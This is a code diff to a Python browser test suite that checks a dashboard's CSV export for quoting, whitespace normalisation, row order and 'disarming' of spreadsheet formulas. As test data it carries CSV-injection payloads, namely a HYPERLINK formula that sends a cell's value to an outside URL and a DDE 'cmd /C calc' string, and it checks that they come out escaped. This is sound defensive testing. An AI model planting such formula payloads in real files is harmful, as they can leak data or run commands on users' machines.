@@ -116,7 +116,7 @@ def test_csv_is_the_table_as_it_is_shown(visit: Visit) -> None:
     assert text.endswith("\r\n")
     heads, *rows = csv.reader(StringIO(text, newline=""))
     assert heads[:3] == ["case", "round", "state"]
-    assert [[cell.replace("\xa0", " ") for cell in row] for row in visit.rows(STATES)] == rows
+    assert [[" ".join(cell.split()) for cell in row] for row in visit.rows(STATES)] == rows
     assert not [row for row in rows if row[0].startswith("ddp")]
 
 
@@ -131,11 +131,13 @@ def test_csv_quotes_and_disarms(browser: "Browser", tmp_path: Path) -> None:
     visit = visiting(browser, written(gather(run(made, rounds=1, failed=False)), tmp_path / "dashboard.html"))
     _, text = saved(visit, SUMMARY)
     lines = text.splitlines()
-    assert lines[1].startswith('"\'=HYPERLINK(""http://example.org?""&A1)",50.0 ms ')
-    assert lines[2].startswith("'-1+cmd|' /C calc'!A0,")
-    assert lines[3].startswith('"a ""quoted"", name|of several",')
-    assert lines[4].startswith(f"{HOSTILE},")
-    assert [row[0].removeprefix("'") for row in csv.reader(StringIO(text))][1:] == list(names)
+    for begins in (
+        '"\'=HYPERLINK(""http://example.org?""&A1)",50.0 ms ', "'-1+cmd|' /C calc'!A0,60.0 ms ",
+        '"a ""quoted"", name|of several",48.0 ms ', f"{HOSTILE},40.0 ms ",
+    ):  # fmt: skip
+        assert [line for line in lines if line.startswith(begins)], begins
+    fastest_first = [names[3], names[2], names[0], names[1]]
+    assert [row[0].removeprefix("'") for row in csv.reader(StringIO(text))][1:] == fastest_first
     numbers = ["-0.3 %", "+1.2e-07", "-12", "-1.5 MiB", "-"]
     visit.table(SUMMARY).evaluate(
         "(table, all) => all.forEach((text, place) => { table.rows[1].cells[place + 1].textContent = text; })", numbers
@@ -146,7 +148,7 @@ def test_csv_quotes_and_disarms(browser: "Browser", tmp_path: Path) -> None:
     visit.page.get_by_label(QUOTED, exact=True).click()
     state = visit.state
     visit.open(state)
-    assert [row[0] for row in visit.rows(SUMMARY)] == [FORMULA, PIPE, HOSTILE]
+    assert [row[0] for row in visit.rows(SUMMARY)] == [HOSTILE, FORMULA, PIPE]
     visit.check_silence()
     visit.page.context.close()
 
